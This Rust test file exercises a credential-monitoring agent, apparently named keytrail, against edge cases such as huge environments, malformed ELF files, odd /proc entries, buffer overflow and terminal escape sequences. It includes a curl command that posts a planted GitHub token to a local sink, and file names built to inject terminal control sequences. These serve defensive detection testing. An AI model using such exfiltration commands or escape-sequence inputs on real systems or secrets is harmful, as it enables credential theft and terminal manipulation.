//! Odd hosts, odd files, odd callers: a clear message, no panic, nothing lost.

use super::count;
use crate::{
    agent::{Agent, Setup},
    command::{act, sh},
    events::{Ask as _, Event, Signal, now_ns, of_kind, wall_ns},
    machine::{Scratch, keytrail, patience, turn, wait_for},
    plant,
    server::Sink,
    stream,
};
use std::{
    ffi::OsStr,
    fs,
    os::unix::{ffi::OsStrExt as _, fs::PermissionsExt as _},
    path::Path,
};

/// An environment of 3 MB: what was not inspected is said, what was is known, and the agent lives.
pub fn environment_of_3_mb() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    // Variables stand in the block by name: the token first.
    let mut huge = act("true")
        .stack_limit(64 << 20)
        .env("AA_GITHUB_TOKEN", &token.value);
    let block = "x".repeat(100_000);
    for number in 0..30 {
        huge = huge.env(format!("PAD_{number:02}"), &block);
    }
    let done = huge.run().ok();
    let exposed = agent.expect("the exposure", done.pid, |e| {
        e.is("credential_exposed") && e.pid() == done.pid
    });
    assert_eq!(exposed.env_name(), "AA_GITHUB_TOKEN");
    let truncation = exposed.truncation.as_ref();
    assert!(
        truncation.is_some_and(|t| t.environment),
        "{}",
        exposed.brief()
    );
    let gap = agent.expect("the gap", done.pid, |e| {
        e.reason() == "environment_truncated" && e.pid() == done.pid
    });
    let reported = gap.gap.as_ref().unwrap();
    assert_eq!(reported.count, 1, "one process: {}", gap.brief());
    // "131072 of 3003456 bytes of the environment were inspected"
    let numbers: Vec<u64> = reported
        .detail
        .split(' ')
        .filter_map(|word| word.parse().ok())
        .collect();
    let [inspected, all] = numbers[..] else {
        panic!("{}", gap.brief());
    };
    let missed = all - inspected;
    assert!((2_900_000..3_010_000).contains(&missed), "{}", gap.brief());
    agent.wait_idle();
}

/// An ELF file that lies about its sections, under the name of OpenSSL, mapped by a process that holds a credential.
pub fn elf_that_lies() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let real = [
        "/usr/lib/x86_64-linux-gnu/libssl.so.3",
        "/usr/lib/aarch64-linux-gnu/libssl.so.3",
    ]
    .iter()
    .map(Path::new)
    .find(|p| p.exists())
    .expect("no libssl.so.3 on this machine");
    let honest = fs::read(real).unwrap();
    let put16 = |bytes: &mut Vec<u8>, at: usize, value: u16| {
        bytes[at..at + 2].copy_from_slice(&value.to_le_bytes())
    };
    let put64 = |bytes: &mut Vec<u8>, at: usize, value: u64| {
        bytes[at..at + 8].copy_from_slice(&value.to_le_bytes())
    };
    // Offsets of the ELF64 header: e_shoff at 0x28, e_shnum at 0x3c; of a section header: sh_offset 0x18, sh_size 0x20.
    let table =
        usize::try_from(u64::from_le_bytes(honest[0x28..0x30].try_into().unwrap())).unwrap();
    let mut lies: Vec<(&str, Vec<u8>)> = Vec::new();
    let mut many = honest.clone();
    put16(&mut many, 0x3c, 0xffff);
    lies.push(("many-sections", many));
    let mut far = honest.clone();
    put64(&mut far, 0x28, u64::MAX - 64);
    lies.push(("far-sections", far));
    let mut long = honest.clone();
    for section in 0..20 {
        put64(&mut long, table + section * 64 + 0x18, u64::MAX / 2);
        put64(&mut long, table + section * 64 + 0x20, u64::MAX);
    }
    lies.push(("long-sections", long));
    lies.push(("cut-short", honest[..3000].to_vec()));
    let script = "import mmap,sys,time; f=open(sys.argv[1],'rb'); \
        m=mmap.mmap(f.fileno(),0,prot=mmap.PROT_READ|mmap.PROT_EXEC); time.sleep(600)";
    let mappers: Vec<_> = lies
        .into_iter()
        .map(|(name, bytes)| {
            let file = scratch.make(name).join("libssl.so.3");
            fs::write(&file, bytes).unwrap();
            let mapper = act("/usr/bin/python3")
                .args(["-c", script])
                .arg(&file)
                .env("GITHUB_TOKEN", plant::github().value)
                .spawn();
            (mapper, file.to_str().unwrap().to_owned())
        })
        .collect();
    for (_, path) in &mappers {
        wait_for(&format!("a word on {path}"), patience(20), || {
            agent.assert_alive();
            let in_status = stream::status(&agent.socket())
                .libraries
                .iter()
                .any(|l| l.path.contains(path) && !l.covered && !l.reason.is_empty());
            let in_gaps = of_kind(&agent.events(), "coverage_gap")
                .iter()
                .any(|e| e.gap.as_ref().unwrap().detail.contains(path));
            (in_status || in_gaps).then_some(())
        });
    }
    drop(mappers);
    agent.wait_idle();
    assert!(!agent.log().contains("panicked"), "{}", agent.log());
}

/// Processes whose /proc entries are odd: names that look like the fields behind them, a zombie, a deleted
/// executable, and one whose entry cannot be read as what it should be.
pub fn odd_proc_entries() {
    let _turn = turn();
    let scratch = Scratch::new();
    let token = plant::github();
    let program = scratch.join("x) R 1 (1\n)");
    fs::copy("/bin/sleep", &program).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    let odd = act(&program)
        .arg("600")
        .env("GITHUB_TOKEN", &token.value)
        .spawn();
    // It must be executed before its file goes.
    wait_for("the odd process", patience(5), || {
        let comm = fs::read(format!("/proc/{}/comm", odd.pid())).unwrap_or_default();
        comm.starts_with(b"x) R").then_some(())
    });
    fs::remove_file(&program).unwrap();
    // Not waited for until the test ends: a zombie.
    let zombie = act("true").env("GITHUB_TOKEN", &token.value).spawn();
    let npm = plant::npm();
    let mut garbled = sh("read line; exec sleep 600")
        .env("NPM_TOKEN", &npm.value)
        .spawn_listening();
    let junk = scratch.join("junk");
    fs::write(&junk, plant::bytes(4096)).unwrap();

    let script = format!(
        "mount --bind {junk} /proc/{pid}/stat && mount --bind {junk} /proc/{pid}/status && \
         mount --bind {junk} /proc/{pid}/maps && exec \"$@\"",
        junk = junk.display(),
        pid = garbled.pid()
    );
    let agent = Setup::new(&scratch).launch(&["unshare", "-m", "sh", "-c", &script, "sh"]);
    agent.ready();
    let exposed = agent.expect("the odd process as a holder", odd.pid(), |e| {
        e.is("credential_exposed") && e.pid() == odd.pid()
    });
    assert_eq!(exposed.env_name(), "GITHUB_TOKEN");
    assert!(
        exposed.process.as_ref().unwrap().comm.starts_with("x) R"),
        "{}",
        exposed.brief()
    );
    agent.expect("a gap about the garbled process", garbled.pid(), |e| {
        let stat = format!("/proc/{}/stat cannot be read", garbled.pid());
        e.reason() == "environment_unreadable" && e.gap.as_ref().unwrap().detail.starts_with(&stat)
    });
    // What /proc does not report the garbled one, the kernel does when it executes something.
    garbled.say("go");
    let exposed = agent.expect("the garbled process as a holder", garbled.pid(), |e| {
        e.is("credential_exposed") && e.pid() == garbled.pid()
    });
    assert_eq!(exposed.env_name(), "NPM_TOKEN", "{}", exposed.brief());
    assert_eq!(exposed.process.as_ref().unwrap().comm, "sleep");
    agent.wait_idle();
    // The dead hold nothing.
    count(&agent.tree(zombie.pid()), 0, "events about a zombie");
    assert!(!agent.log().contains("panicked"), "{}", agent.log());
}

/// Environments of running processes that cannot be read are reported, each with its process; a kernel thread has none.
pub fn environments_that_cannot_be_read() {
    let _turn = turn();
    let scratch = Scratch::new();
    let holder = act("sleep")
        .arg("600")
        .env("NPM_TOKEN", plant::npm().value)
        .spawn();
    // No program can open a socket by its name.
    let socket = scratch.join("no-file");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let script = format!(
        "mount --bind {} /proc/{}/environ && exec \"$@\"",
        socket.display(),
        holder.pid()
    );
    let agent = Setup::new(&scratch).launch(&["unshare", "-m", "sh", "-c", &script, "sh"]);
    agent.ready();
    let gap = agent.expect("the gap", holder.pid(), |e| {
        e.reason() == "environment_unreadable" && e.pid() == holder.pid()
    });
    let reported = gap.gap.as_ref().unwrap();
    assert!(
        reported
            .detail
            .contains(&format!("process {} ", holder.pid()))
            && !reported.remedy.is_empty(),
        "{reported:?}"
    );
    agent.wait_idle();
    let gaps: Vec<Event> = agent
        .events()
        .into_iter()
        .filter(|e| e.reason() == "environment_unreadable")
        .collect();
    let mine: Vec<Event> = gaps
        .iter()
        .filter(|e| e.pid() == holder.pid())
        .cloned()
        .collect();
    count(&mine, 1, "gaps about this process");
    for gap in &gaps {
        assert!(!is_kernel_thread(gap.pid()), "{}", gap.brief());
    }
    count(
        &of_kind(&agent.tree(holder.pid()), "credential_exposed"),
        0,
        "exposures nobody can have seen",
    );
}

/// By the flags in its stat, the ninth field (proc(5)): PF_KTHREAD of linux/sched.h.
fn is_kernel_thread(pid: u32) -> bool {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let flags = stat
        .rsplit_once(')')
        .and_then(|(_, rest)| rest.split_whitespace().nth(6)?.parse::<u32>().ok());
    flags.is_some_and(|flags| flags & 0x0020_0000 != 0)
}

/// More at once than the smallest ring holds, while the agent stands still: the stream says what was lost, where and
/// of which kind, and afterwards everything is as before.
pub fn ring_that_overflows() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Setup::new(&scratch).config("ring_bytes = 65536").start();
    let client = stream::Reader::start(&agent.socket(), None);
    agent.pause();
    let block = "x".repeat(60_000);
    let paused = now_ns();
    sh("i=0; while [ $i -lt 200 ]; do env true; i=$((i+1)); done")
        .env("GITHUB_TOKEN", plant::github().value)
        .env("PAD", &block)
        .run()
        .ok();
    agent.resume();
    let resumed = now_ns();
    let lost = |events: &[Event]| -> Vec<Event> {
        events
            .iter()
            .filter(|e| e.reason() == "records_lost" && wall_ns(e.time.as_ref().unwrap()) >= paused)
            .cloned()
            .collect()
    };
    // Two programs each: most of them cannot have found room.
    let of_execs = wait_for("the loss in the stream", patience(20), || {
        let gaps = lost(&client.events());
        let execs: u64 = gaps
            .iter()
            .map(|e| e.gap.as_ref().unwrap())
            .filter(|gap| Signal::word_of(gap.signal).starts_with("exec"))
            .map(|gap| gap.count)
            .sum();
        (execs >= 200).then_some(gaps)
    });
    for event in &of_execs {
        let gap = event.gap.as_ref().unwrap();
        assert!(
            gap.count > 0 && gap.signal != 0 && !gap.remedy.is_empty(),
            "{gap:?}"
        );
        let cpu = gap
            .detail
            .strip_prefix(&format!(
                "{} {} records of CPU ",
                gap.count,
                Signal::word_of(gap.signal)
            ))
            .and_then(|rest| rest.split(' ').next())
            .filter(|number| number.parse::<u32>().is_ok())
            .is_some_and(|number| {
                Path::new(&format!("/sys/devices/system/cpu/cpu{number}")).is_dir()
            });
        assert!(cpu, "{gap:?}");
        let (from, to) = (gap.from.as_ref().unwrap(), gap.to.as_ref().unwrap());
        assert!(
            wall_ns(from) <= wall_ns(to) && wall_ns(to) + 1_000_000_000 >= resumed,
            "{gap:?}"
        );
    }
    // The agent's own account is the same.
    let own = agent.client("doctor").args(["-o", "json"]).run();
    // Not all is well: records were lost.
    assert_eq!(own.code(), 1, "{}", own.stderr_text());
    let status: keytrail_proto::v1::GetStatusResponse =
        serde_json::from_str(&own.stdout_text()).unwrap();
    let counted: u64 = status.counters.as_ref().unwrap().lost.values().sum();
    let reported: u64 = of_execs.iter().map(|e| e.gap.as_ref().unwrap().count).sum();
    assert!(
        counted >= reported,
        "{counted} counted, {reported} reported"
    );

    let token = plant::github();
    let done = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
        .arg(sink.port.to_string())
        .env("GITHUB_TOKEN", &token.value)
        .run()
        .ok();
    assert!(sink.has(&token.value));
    let sent = agent.expect("a send after the loss", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    assert_eq!(sent.grade(), "observed", "{}", sent.brief());
}

/// Escape sequences in arguments and file names do not reach the terminal.
pub fn escape_sequences_are_escaped() {
    let _turn = turn();
    let scratch = Scratch::new();
    let evil = OsStr::from_bytes(b"cred\x1b[31m\x1b]0;owned\x07\r\n\xc2\x9b8m\xe2\x80\xaes");
    let home = scratch.make("home");
    let dir = home.join(evil);
    fs::create_dir_all(&dir).unwrap();
    let (_, file) = plant::aws_credentials(&dir);
    let agent = Setup::new(&scratch)
        .config("[log]\nlevel = \"info\"")
        .whole_config(&format!(
            "watch = [\"{}/*/.aws/credentials\"]",
            home.display()
        ))
        .start();
    let watches = ["compact", "wide"].map(|format| (format, agent.watch(format)));
    let done = sh("cat \"$1\"; :").arg(&file).run().ok();
    let evil_name = act("/bin/true")
        .arg0(evil)
        .arg(evil)
        .env("GITHUB_TOKEN", plant::github().value)
        .run();
    assert!(evil_name.status.success());
    let read = agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.in_tree(done.pid)
    });
    let exposed = agent.expect("the exposure", evil_name.pid, |e| {
        e.is("credential_exposed") && e.pid() == evil_name.pid
    });
    assert!(exposed.process.as_ref().unwrap().argv[0].contains("owned"));
    agent.wait_idle();
    for (format, watch) in &watches {
        let pid = evil_name.pid.to_string();
        let shown = wait_for("the events in the output", patience(5), || {
            let text = watch.written();
            let has = |needle: &str| String::from_utf8_lossy(&text).contains(needle);
            (has(&pid) && has(&read.pid().to_string())).then_some(text)
        });
        no_controls(&shown, format);
    }
    drop(watches);
    no_controls(agent.log().as_bytes(), "the log");

    // The same where `trace` shows events and a summary.
    let done = act(keytrail())
        .args(["trace", "--"])
        .arg("/bin/true")
        .arg(evil)
        .env("GITHUB_TOKEN", plant::github().value)
        .env("HOME", scratch.path())
        .run();
    assert_eq!(done.code(), 0, "{}", done.stderr_text());
    no_controls(&done.stderr, "trace");
}

/// Fails when there is anything a terminal might obey.
fn no_controls(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<char> = text
        .chars()
        // U+202E turns the direction of writing around.
        .filter(|c| (c.is_control() && !matches!(c, '\n' | '\t')) || *c == '\u{202e}')
        .collect();
    assert!(
        bad.is_empty(),
        "{what} has control characters {bad:?}: {text:?}"
    );
}

/// A watched place that is a FIFO, a directory, a socket, a loop of links: nothing hangs.
pub fn odd_files_in_watched_places() {
    let _turn = turn();
    let scratch = Scratch::new();
    let home = scratch.make("home");
    let odd = scratch.make("home/odd");
    sh("cd \"$1\" && mkfifo fifo.json && mkdir dir.json && ln -s loop.json loop.json && \
        ln -s /dev/zero zero.json && ln -s /nowhere gone.json && : >empty.json && truncate -s 1T sparse.json")
        .arg(&odd)
        .run()
        .ok();
    let (_, file) = plant::aws_credentials(&home);
    let agent = Agent::start(&scratch);
    let done = sh("head -c 10 \"$2\"/sparse.json >/dev/null; cat \"$2\"/empty.json; cat \"$1\"; :")
        .arg(&file)
        .arg(&odd)
        .run()
        .ok();
    agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.in_tree(done.pid)
    });
    agent.wait_idle();
    count(
        &of_kind(&agent.tree(done.pid), "credential_read"),
        1,
        "reads",
    );
}

/// A machine that runs out of file descriptors for the agent: it goes on, and says so.
pub fn few_file_descriptors() {
    const LIMIT: usize = 256;
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let script = format!("ulimit -n {LIMIT}; exec \"$@\"");
    let agent = Setup::new(&scratch).launch(&["sh", "-c", &script, "sh"]);
    agent.ready();
    // Clients take descriptors; the agent must still see.
    let idle: Vec<_> = (0..300)
        .filter_map(|_| std::os::unix::net::UnixStream::connect(agent.socket()).ok())
        .collect();
    wait_for("the agent to have no descriptor left", patience(5), || {
        let open = fs::read_dir(format!("/proc/{}/fd", agent.pid()))
            .unwrap()
            .count();
        (open >= LIMIT).then_some(())
    });
    let done = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
        .arg(sink.port.to_string())
        .env("GITHUB_TOKEN", plant::github().value)
        .run()
        .ok();
    agent.expect("the send", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    // A file that it cannot open to inspect is not passed over.
    let (planted, file) = plant::aws_credentials(&scratch.make("elsewhere"));
    let before = agent.sequence();
    let done = sh("cat \"$1\"; :").arg(&file).run().ok();
    assert!(done.stdout_text().contains(&planted.value));
    // Such gaps are reported every ten seconds.
    wait_for("the read, or a gap about it", patience(20), || {
        let events = agent.events();
        let reported = events.iter().any(|e| {
            e.sequence() > before
                && ((e.is("credential_read") && e.in_tree(done.pid))
                    || e.reason() == "file_unreadable")
        });
        reported.then_some(())
    });
    // And recovers.
    drop(idle);
    wait_for("the agent to answer again", patience(10), || {
        let doctor = agent.client("doctor").args(["-o", "json"]).run();
        doctor.stdout_text().contains("\"agent\"").then_some(())
    });
    agent.sentinel();
}

/// Too little memory or too few descriptors for an agent: a sentence and a failure, whatever it was that ran out.
pub fn too_little_to_start() {
    let _turn = turn();
    let scratch = Scratch::new();
    let refused = |limit: &str, words: &[&str]| {
        let script = format!("{limit}; exec \"$@\"");
        let done = act("sh")
            .args(["-c", &script, "sh"])
            .arg(keytrail())
            .arg("agent")
            .arg("--state-dir")
            .arg(scratch.make("state"))
            .arg("--listen")
            .arg(format!("unix:{}", scratch.path().join("a.sock").display()))
            // An agent that has enough after all would stay.
            .limit(20)
            .run();
        let said = done.stderr_text();
        assert!(done.code() > 0, "{limit}: {} {said}", done.code());
        let said = said.lines().last().unwrap_or_default();
        assert!(
            said.starts_with("keytrail: ") && words.iter().any(|word| said.contains(word)),
            "{limit}: {said}"
        );
        assert!(!done.stderr_text().contains("panicked"), "{limit}");
    };
    for files in [4, 8, 12, 20, 60, 127] {
        refused(
            &format!("ulimit -n {files}"),
            &["open files", "Too many open files"],
        );
    }
    // KiB: from twice the program itself to hardly enough for the maps. With less the kernel does not execute it.
    for memory in [80_000, 90_000, 100_000] {
        refused(
            &format!("ulimit -v {memory}"),
            &[
                "out of memory",
                "allocate memory",
                "os error 12",
                "a thread cannot be started",
            ],
        );
    }
}
